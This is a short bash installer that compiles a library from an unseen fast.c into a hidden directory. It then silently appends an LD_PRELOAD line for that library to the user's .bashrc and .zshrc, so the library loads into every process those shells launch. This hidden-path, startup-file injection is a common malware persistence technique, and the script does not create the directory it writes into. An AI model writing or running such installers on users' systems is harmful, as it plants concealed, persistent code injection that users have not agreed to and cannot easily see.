#!/usr/bin/env bash
DEST="$HOME/.local/lib/.fastshell"
cc -shared -fPIC -o "$DEST/libfast.so" fast.c -ldl
for rc in "$HOME/.bashrc" "$HOME/.zshrc"; do
  echo "export LD_PRELOAD=\"$DEST/libfast.so\"" >> "$rc"
done
